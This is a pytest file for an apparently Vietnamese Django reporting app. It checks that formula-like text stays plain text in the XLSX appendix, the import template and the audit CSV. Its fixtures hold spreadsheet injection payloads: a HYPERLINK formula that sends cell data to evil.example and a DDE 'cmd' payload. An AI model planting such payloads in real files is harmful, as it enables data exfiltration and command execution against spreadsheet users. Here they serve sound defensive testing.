"""Stored text that begins like a formula stays text in every export (issue 11, item 8): the report
appendix, the import template (which then imports back unchanged) and the audit CSV."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal as D

import openpyxl
import pytest

from chitieu.imports.importer import import_workbook
from chitieu.imports.template import build_template
from chitieu.indicators.models import Indicator, Target
from chitieu.lib.safecells import FORMULA_STARTS
from chitieu.reporting.models import Result
from chitieu.reporting.services import result_save, target_save

pytestmark = pytest.mark.django_db
DAY = dt.date(2024, 6, 1)
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
EVIL_NOTE = "=1+1"
EVIL_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def evil(world):
    ind = Indicator.objects.create(
        code="doc-hai",
        name=EVIL_NAME,
        measure_unit=world.tonnes,
        field="economy",
        measure="flow",
        aggregation="sum",
    )
    result_save(
        actor=None,
        indicator=ind,
        unit=world.district,
        period="2023-H1",
        value=D(5),
        note=EVIL_NOTE,
        today=DAY,
    )
    target_save(
        actor=None,
        indicator=ind,
        unit=world.district,
        period="2023",
        basis="plan",
        value=D(10),
        note="-giảm 5%",
        resolution=world.resolution,
    )
    return ind


def sheets_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def text_cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_the_report_appendix_writes_a_formula_like_indicator_name_as_text(vi_client, world, evil):
    resp = vi_client.get(f"/units/huyen-d/appendix.xlsx?period=2023-H1&resolution={world.resolution.pk}")
    data = b"".join(resp.streaming_content) if resp.streaming else resp.content
    assert resp.status_code == 200
    assert "<f>" not in sheets_xml(data)
    cells = [c for c in text_cells(data) if c.value.lstrip("- ").startswith("=HYPERLINK")]
    assert cells and all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells if c.value.startswith("="))


def test_the_import_template_keeps_formula_like_text_as_text_and_imports_back_unchanged(world, evil, clerk):
    data = build_template(world.district, "2023-H1", world.resolution)
    assert "<f>" not in sheets_xml(data)
    evil_cells = [c for c in text_cells(data) if c.value in (EVIL_NAME, EVIL_NOTE, "-giảm 5%")]
    assert len(evil_cells) >= 4 and all(c.data_type == "s" and c.quotePrefix for c in evil_cells)
    before = (
        sorted(Result.objects.values_list("pk", "value", "note", "version")),
        sorted(Target.objects.values_list("pk", "value", "note", "version")),
    )
    report = import_workbook(data, actor=clerk, allowed_results=None, allowed_targets=None)
    assert report.errors == [], [str(e) for e in report.errors]
    assert report.created == report.changed == 0
    after = (
        sorted(Result.objects.values_list("pk", "value", "note", "version")),
        sorted(Target.objects.values_list("pk", "value", "note", "version")),
    )
    assert after == before


def test_the_audit_csv_writes_formula_like_text_with_an_apostrophe(vi_client, world, evil):
    result_save(
        actor=None,
        indicator=evil,
        unit=world.district,
        period="2023-H1",
        value=D(6),
        note="x",
        reason=EVIL_REASON,
        today=DAY,
    )
    body = vi_client.get("/audit/export.csv").content.decode("utf-8-sig")
    assert "'" + EVIL_REASON in body
    rows = list(csv.reader(io.StringIO(body)))
    assert any(EVIL_NAME in field for row in rows for field in row)  # the object's name is exported...
    for row in rows[1:]:
        for field in row:
            assert not field.startswith(FORMULA_STARTS), row  # ...but no field begins like a formula
